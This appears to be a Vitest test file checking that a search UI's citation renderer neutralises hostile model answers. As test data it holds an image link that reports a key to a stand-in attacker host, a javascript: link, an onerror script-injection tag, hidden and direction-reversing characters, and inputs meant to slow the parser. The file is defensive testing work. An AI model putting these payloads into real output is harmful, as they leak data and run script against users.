/** What a hostile answer of a model becomes in the page: texts, and links to the passages that it was given. */
import { expect, it } from 'vitest';
import { citedParagraphs } from '#engine/features/search/ui/ask/citations.ts';

/** Passages; a link to one is drawn for each. */
const passages = [1, 2];

it.each<[string, string, (string | number)[]]>([
  ['names its sources', 'Yes [1], no [1-2].', ['Yes ', 1, ', no ', 1, 2, '.']],
  ['names a source that is none', 'Yes [7], no [0][3-9].', ['Yes', ', no', '', '.']],
  [
    'gives a number to an address of its own',
    'See [1](https://evil.example).',
    ['See [1](https://evil.example).'],
  ],
  ['has a link that leaves', '[here](https://evil.example)', ['[here](https://evil.example)']],
  ['has a link that runs', '[here](javascript:alert(1))', ['[here](javascript:alert(1))']],
  ['has a picture that reports', '![](https://evil.example/?q=key)', ['![](https://evil.example/?q=key)']],
  ['has markup', '<img src=x onerror=alert(1)>', ['<img src=x onerror=alert(1)>']],
  ['has citations of others', 'So 【1†source】[^1] [2024].', ['So 【1†source】[^1] [2024].']],
  ['turns the direction', '\u202Eon [1]\u2066', ['on ', 1, '']],
  ['hides what it says', 'a\u{E0062}\u200Bc', ['ac']],
  ['quotes code', 'Use `items[1]` and pets[0] [2]', ['Use `items[1]` and pets[0] ', 2, '']],
])('an answer that %s', (_, text, parts) => expect(citedParagraphs(text, true, passages)).toEqual([parts]));

it('an answer under way shows no number that may be one of a source', () => {
  expect(citedParagraphs('Yes [1', false, passages)).toEqual([['Yes']]);
  expect(citedParagraphs('Yes [x', false, passages)).toEqual([['Yes [x']]);
});

it.each([
  '\u2007'.repeat(80_000),
  ' ['.repeat(40_000),
  '[1,'.repeat(26_000),
  '`'.repeat(80_000),
  `[1${' '.repeat(80_000)}`,
])('an answer of 80,000 characters is read once (%#)', (text) =>
  expect(citedParagraphs(`${text}x`, false, passages).flat().join('').length).toBeGreaterThan(0),
);
